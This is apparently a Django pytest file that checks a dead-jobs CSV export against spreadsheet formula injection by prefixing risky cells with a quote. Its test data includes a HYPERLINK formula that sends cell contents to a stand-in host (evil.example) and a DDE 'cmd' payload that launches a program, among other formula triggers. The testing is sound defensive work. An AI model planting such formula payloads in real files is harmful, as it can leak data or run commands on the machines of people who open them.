"""The dead-jobs CSV is safe to open in a spreadsheet: a text cell a spreadsheet would run
as a formula starts with a single quote (OWASP's CSV-injection advice), and every other
cell is written as it is."""

import csv
import io

import pytest
from django.urls import reverse

from jobs.columns import CSV_COLUMNS
from tests.factories import JobFactory, ProviderFactory, TraineeFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Click")'


def _rows(client, **params) -> dict[str, dict[str, str]]:
    response = client.get(reverse("admin:jobs_deadjob_csv"), params)
    text = b"".join(response.streaming_content).decode()
    return {row["job_id"]: row for row in csv.DictReader(io.StringIO(text))}


def test_text_a_spreadsheet_would_run_is_written_with_a_leading_quote(agent_client):
    trainee = TraineeFactory(
        first_names=HYPERLINK,
        middle_names="",
        last_name="Smith",
        email="@SUM(1+1)@example.com",
        course_subject_one="+1",
        course_subject_two="\tmaths",
        course_subject_three="\r=1",
        provider=ProviderFactory(name="-2+3"),
    )
    job = JobFactory(
        dead=True, trainee=trainee, error_title="=cmd|' /C calc'!A0", error_message="@now"
    )
    row = _rows(agent_client)[str(job.pk)]
    assert row["full_name"] == "'" + HYPERLINK + " Smith"
    assert row["email"] == "'@SUM(1+1)@example.com"
    assert row["course_subject_one"] == "'+1"
    assert row["course_subject_two"] == "'\tmaths"
    assert row["course_subject_three"] == "'\r=1"
    assert row["provider_name"] == "'-2+3"
    assert row["error_title"] == "'=cmd|' /C calc'!A0"
    assert row["error_message"] == "'@now"


def test_other_cells_are_written_unchanged(agent_client):
    trainee = TraineeFactory(
        with_trn=True, first_names="Ann", middle_names="", last_name="O'Neil = friend"
    )
    job = JobFactory(dead=True, trainee=trainee, error_message="")
    row = _rows(agent_client)[str(job.pk)]
    assert row["full_name"] == "Ann O'Neil = friend"
    assert row["trn"] == trainee.trn
    assert row["register_id"] == str(trainee.pk)
    assert row["date_of_birth"] == "1995-04-12"
    assert row["course_min_age"] == "11"
    assert row["error_status"] == "404"
    assert row["error_message"] == ""
    assert row["url"].startswith("http")
    assert list(row) == [c.csv_header for c in CSV_COLUMNS]


def test_a_filtered_csv_keeps_its_order_and_filter(agent_client):
    first = JobFactory(dead=True, trainee=TraineeFactory(last_name="=First"))
    JobFactory(dead=True, error_status=500)
    last = JobFactory(dead=True, trainee=TraineeFactory(last_name="Last"))
    rows = _rows(agent_client, error_status="404")
    assert list(rows) == [str(first.pk), str(last.pk)]
    assert rows[str(first.pk)]["full_name"].endswith("=First")
